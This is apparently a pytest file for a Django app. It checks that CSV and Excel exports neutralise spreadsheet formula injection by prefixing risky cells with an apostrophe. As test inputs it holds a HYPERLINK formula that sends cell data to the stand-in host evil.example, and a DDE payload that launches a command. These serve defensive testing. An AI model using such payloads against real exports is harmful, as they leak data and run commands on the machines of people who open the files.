"""No cell of a CSV or .xlsx export is ever a formula: text that begins with = + - @ tab or
carriage return is prefixed with an apostrophe (core.exports.safe_cell); numbers stay numbers."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from tests.events.helpers import published_event
from threecenters.core.exports import safe_cell
from threecenters.events import services as event_services

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点这里")'


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+8613800000000", "'+8613800000000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("张*", "张*"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_text_that_could_start_a_formula_is_kept_as_text(value, safe):
    assert safe_cell(value) == safe


@pytest.mark.parametrize("value", [-5, 3.5, 0, None, datetime.date(2026, 1, 1)])
def test_numbers_dates_and_empty_cells_are_unchanged(value):
    assert safe_cell(value) is value


@pytest.mark.django_db
def test_the_audit_export_carries_no_formula(personas, client_for):
    Client(HTTP_USER_AGENT="@SUM(1+1)*cmd|' /C calc'!A0").post(
        "/accounts/signin/", {"username": HOSTILE, "password": "wrong-Password-1"}
    )
    export = client_for("auditor").get("/staff/audit/export.csv")
    assert export.status_code == 200
    text = b"".join(export.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    failed = [r for r in rows[1:] if r[1].lstrip("'").startswith("=HYPERLINK")]
    assert failed, rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert failed[0][1] == "'" + HOSTILE
    assert any(r[9] == "'@SUM(1+1)*cmd|' /C calc'!A0" for r in rows[1:])


@pytest.mark.django_db
def test_the_attendance_workbook_carries_no_formula(world, personas, client_for):
    event = published_event(world, personas, title="=1+1", venue="@大井社区")
    resident = personas["resident"]
    resident.display_name = "-张三"
    resident.save(update_fields=["display_name"])
    event_services.registration_create(event=event, person=resident)
    response = client_for("civility_staff").get(f"/staff/events/{event.pk}/attendance.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert "'=1+1" in values and "'@大井社区" in values
    assert any(isinstance(v, str) and v.startswith("'-") for v in values)  # the masked name
    companions = sheet.cell(row=4, column=5)
    assert companions.value == 0 and companions.data_type == "n"  # numbers stay numbers
